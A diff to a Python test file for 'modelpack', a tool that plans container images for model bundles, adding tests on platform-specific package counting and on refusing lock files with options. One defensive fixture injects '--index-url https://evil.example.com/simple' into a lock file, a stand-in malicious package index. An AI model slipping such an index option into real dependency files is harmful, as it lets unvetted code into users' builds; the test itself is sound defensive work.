@@ -7,9 +7,8 @@ from dataclasses import replace
 import pytest
 
 from modelpack.config.settings import ImageSettings
-from modelpack.errors import RefusedError, SecretFoundError, StoreError, UsageError
+from modelpack.errors import BuildError, RefusedError, SecretFoundError, StoreError, UsageError
 from modelpack.image import plan_image
-from modelpack.image.plan import size_text
 from modelpack.store import Entry, Kind, Store
 from modelpack.tag import Tag
 
@@ -106,6 +105,26 @@ def test_a_model_whose_name_starts_like_another_is_not_counted_twice(
 
     size = {layer.what: layer.size_bytes for layer in plan.layers}
     assert (size["model digits-clf"] or 0) < 10**9
+
+
+def test_packages_of_other_systems_are_not_counted(store: Store, make_bundle: MakeBundle) -> None:
+    digest = "0" * 64
+    windows = f"colorama==0.4.6 ; sys_platform == 'win32' \\\n    --hash=sha256:{digest}\n"
+    cuda = f"nvidia-cuda-runtime==13.0.96 ; platform_system == 'Linux' \\\n    --hash=sha256:{digest}\n"
+
+    plan = plan_image(store, make_bundle("cpu", extra_lock=windows), ImageSettings())
+    assert "Python packages (17)" in [layer.what for layer in plan.layers]
+
+    plan = plan_image(store, make_bundle("cpu", version="2", extra_lock=cuda), ImageSettings())
+    assert plan.base.has_gpu
+
+
+def test_a_lock_with_an_option_is_refused(store: Store, make_bundle: MakeBundle) -> None:
+    """Threat model S10: an index of its own would bring what nobody has seen."""
+    entry = make_bundle("cpu", extra_lock="--index-url https://evil.example.com/simple\n")
+
+    with pytest.raises(BuildError, match="no pinned and hashed package"):
+        plan_image(store, entry, ImageSettings())
 
 
 def test_what_nobody_knows_is_said_by_name(store: Store, make_bundle: MakeBundle) -> None:
@@ -231,11 +250,3 @@ def test_a_model_is_not_containerized(store: Store) -> None:
 
     with pytest.raises(StoreError, match="not a bundle"):
         plan_image(store, entry, ImageSettings())
-
-
-@pytest.mark.parametrize(
-    ("size", "text"),
-    [(0, "0 B"), (999, "999 B"), (1000, "1.0 kB"), (126_250_000, "126.2 MB"), (2.5e9, "2.5 GB")],
-)
-def test_sizes_read_as_engines_show_them(size: int, text: str) -> None:
-    assert size_text(size) == text
